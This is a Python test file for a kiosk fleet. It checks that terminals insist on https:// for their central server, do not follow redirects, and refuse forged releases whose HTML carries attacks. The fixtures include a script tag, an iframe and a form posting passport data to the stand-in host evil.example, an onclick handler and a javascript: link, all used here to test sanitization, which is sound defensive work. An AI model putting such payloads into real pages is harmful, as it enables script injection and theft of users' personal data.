"""A terminal trusts central only as far as it must: https:// for the token, and release HTML
re-checked with the kiosk's own sanitizer before anything of it is shown."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys

import pytest
import requests
from sqlalchemy import select

from core.config import ROOT
from core.extensions import db
from core.fleet.client import send_heartbeat, sync_release
from core.models import Release
from core.models.fleet import Terminal, TerminalEvent
from core.publishing import canonical_json, content_hash
from tests.conftest import make_app
from tests.fleet.conftest import Bridge, publish_title

PLAIN = "http://central.test"


def shown_release(terminal) -> tuple[int, str] | None:
    """(number, hash) of the release the terminal shows."""
    with terminal.app_context():
        row = db.session.execute(select(Release.number, Release.content_hash)).first()
        return tuple(row) if row else None


# --- https:// only --------------------------------------------------------------------------------


def test_a_terminal_does_not_start_with_an_http_central(databases, tmp_path):
    url = databases.copy("migrated")
    settings = {"KIOSK_ROLE": "terminal", "CENTRAL_URL": PLAIN, "TERMINAL_TOKEN": "kt_" + "a" * 43}
    try:
        with pytest.raises(RuntimeError, match=r"CENTRAL_URL must start with https://.*ALLOW_INSECURE_CENTRAL=1"):
            make_app(url, tmp_path / "a" / "release.stamp", **settings)
        with pytest.raises(RuntimeError, match="https://"):
            make_app(url, tmp_path / "b" / "release.stamp", **{**settings, "CENTRAL_URL": "ftp://central.test"})
        # The lab switch allows it, explicitly; central itself is not concerned.
        lab = make_app(url, tmp_path / "c" / "release.stamp", **settings, ALLOW_INSECURE_CENTRAL=True)
        assert lab.config["CENTRAL_URL"] == PLAIN
        make_app(url, tmp_path / "d" / "release.stamp", CENTRAL_URL=PLAIN)
        with lab.app_context():
            db.engine.dispose()
    finally:
        databases.drop(url)


def test_flask_terminal_sync_refuses_http_with_a_clear_message(databases, tmp_path):
    url = databases.copy("migrated")
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "DATABASE_URL": url,
        "SECRET_KEY": "test-secret-not-for-production",
        "KIOSK_ROLE": "terminal",
        "CENTRAL_URL": PLAIN,
        "TERMINAL_TOKEN": "kt_" + "a" * 43,
        "TERMINAL_STATE_DIR": str(tmp_path),
        "RELEASE_STAMP_PATH": str(tmp_path / "release.stamp"),
    }
    env.pop("ALLOW_INSECURE_CENTRAL", None)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "flask", "--app", "wsgi", "terminal", "sync"],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
    finally:
        databases.drop(url)
    assert done.returncode != 0
    assert "CENTRAL_URL must start with https://" in done.stdout + done.stderr
    assert "ALLOW_INSECURE_CENTRAL=1" in done.stdout + done.stderr


def test_the_token_never_goes_over_http_even_if_the_setting_changes_later(central, terminal, registered):
    sent = Bridge(central)
    session = requests.Session()
    session.mount(PLAIN, sent)
    terminal.config["CENTRAL_URL"] = PLAIN
    with terminal.app_context():
        result = sync_release(session=session)
        beat = send_heartbeat(session=session)
    assert result.outcome == "failed" and "https://" in result.error
    assert not beat.ok and "https://" in beat.error
    assert sent.log == []  # nothing left the terminal

    terminal.config["ALLOW_INSECURE_CENTRAL"] = True  # the lab switch, explicitly
    with terminal.app_context():
        assert sync_release(session=session).outcome == "updated"
    assert [e.path for e in sent.log] == ["/api/terminal/release"]


def test_a_redirect_is_not_followed(central, terminal, http, bridge):
    """A redirect could take the token to another host or down to http://: the sync fails instead."""

    def redirect(status, headers, body):
        return 302, {"Location": "http://elsewhere.test/api/terminal/release"}, b""

    bridge.tamper = redirect
    with terminal.app_context():
        result = sync_release(session=http)
    assert result.outcome == "failed" and "302" in result.error
    assert [e.path for e in bridge.log] == ["/api/terminal/release"]


# --- release HTML re-sanitized on the terminal ----------------------------------------------------

FAKE_TITLE = "Fake central was here"
ATTACKS = {
    "script": '<p>Read this</p><script>document.title="pwned"</script>',
    "iframe": '<p>Watch</p><iframe src="https://evil.example/"></iframe>',
    "form": '<form action="https://evil.example/collect"><input name="steal-passport-number"></form>',
    "outside link": '<p><a href="https://evil.example/">official help</a></p>',
    "event handler": '<p onclick="steal()">Tap here</p>',
}


def fake_central(html: str, central):
    """A tamper that serves central's release with attacker HTML in an article and the office note,
    with a matching content hash (the fake central makes its own hash, so the hash check passes). It
    answers every release request with the whole payload, uncompressed, as an older central would;
    tests/fleet/test_sync_delta.py has the same attack inside a delta."""

    def tamper(status, headers, body):
        if status not in (200, 206) or not headers.get("X-Content-Hash"):
            return status, headers, body
        with central.app_context():
            stored = db.session.scalar(select(Release.payload).order_by(Release.number.desc()))
        payload = json.loads(stored)
        headers = {k: v for k, v in headers.items() if k not in ("X-Sync-Kind", "Content-Encoding", "Content-Range")}
        headers["Content-Type"] = "application/json"
        article = payload["topics"][0]["articles"][0]
        for lang in article["texts"]:
            article["texts"][lang]["title"] = FAKE_TITLE
            article["texts"][lang]["body_html"] = html
        payload["office"]["texts"]["ru"]["reception_note_html"] = html
        text = canonical_json(payload)
        raw = text.encode("utf-8")
        headers = {**headers, "X-Content-Hash": content_hash(text), "Content-Length": str(len(raw))}
        headers["ETag"] = f'"{headers["X-Content-Hash"]}"'
        headers["X-Release-Number"] = str(int(headers["X-Release-Number"]) + 1)
        return 200, headers, raw

    return tamper


def all_pages(terminal) -> str:
    """Every kiosk page of the shown release, in every language, as one text."""
    from core.models.base import utcnow
    from core.publishing import current_snapshot

    client = terminal.test_client()
    with terminal.app_context():
        snapshot = current_snapshot()
        paths = [p for lang in ("ky", "ru", "en") for p in snapshot.page_paths(lang, utcnow())] if snapshot else []
    return "\n".join(client.get(path).get_data(as_text=True) for path in ["/", *paths])


@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_release_with_unsafe_html_is_refused_and_nothing_of_it_is_shown(
    central, terminal, http, bridge, registered, html, caplog
):
    with terminal.app_context():
        assert sync_release(session=http).outcome == "updated"
    before = shown_release(terminal)
    publish_title("work-abroad", "Работа за рубежом — новое")  # central has something new to send

    bridge.tamper = fake_central(html, central)
    with caplog.at_level(logging.WARNING), terminal.app_context():
        result = sync_release(session=http)
    assert result.outcome == "failed"
    assert "refused" in result.error and "_html" in result.error, result.error
    assert any("refused" in record.getMessage() for record in caplog.records)  # the terminal logs why
    assert shown_release(terminal) == before
    pages = all_pages(terminal)
    assert FAKE_TITLE not in pages and "evil.example" not in pages
    assert "<script>document" not in pages and "<iframe" not in pages and "steal-passport" not in pages
    assert "steal()" not in pages

    # Its next heartbeat tells central why it kept the old release.
    bridge.tamper = None
    with terminal.app_context():
        assert send_heartbeat(session=http).ok
    row = db.session.get(Terminal, registered[0].id)
    db.session.refresh(row)
    assert "refused" in row.last_report["sync_error"]
    event = db.session.scalar(select(TerminalEvent).where(TerminalEvent.kind == "sync_failing"))
    assert event is not None and "refused" in event.detail


def test_a_first_release_with_a_script_leaves_the_terminal_empty(terminal, http, bridge):
    bridge.tamper = fake_central(ATTACKS["script"], bridge.central)
    with terminal.app_context():
        result = sync_release(session=http)
    assert result.outcome == "failed" and "refused" in result.error
    assert shown_release(terminal) is None
    client = terminal.test_client()
    page = client.get("/ru/topics/work-abroad").get_data(as_text=True)
    assert FAKE_TITLE not in page and "<script>document" not in page


def test_releases_made_by_central_from_any_markdown_pass_the_check(central, terminal, http):
    """The re-check must never refuse what central's own publishing made: tables, code, entities,
    quotes, internal and outside links, raw HTML in the Markdown, Kyrgyz letters."""
    from core.models import Article

    body = (
        "# Эскертүү ӨҮҢ\n\nText with & and < and > and \"quotes\" and 'apostrophes' and \u00a0nbsp.\n\n"
        "| a | b |\n|---|---|\n| 1 | <b>2</b> |\n\n`code <x>` and **bold** _em_\n\n"
        "[inside](/ru/hotlines) [outside](https://example.org) [js](javascript:alert(1))\n\n"
        "<script>alert(1)</script><iframe src=x></iframe>\n\n> quote\n\n1. one\n2. two\n\n---\n"
    )
    article = db.session.scalar(select(Article).order_by(Article.id))
    article.texts = {lang: {**fields, "body": body} for lang, fields in article.texts.items()}
    db.session.commit()
    publish_title("work-abroad", "Работа за рубежом — разметка")
    with terminal.app_context():
        result = sync_release(session=http)
    assert result.outcome == "updated", result.error
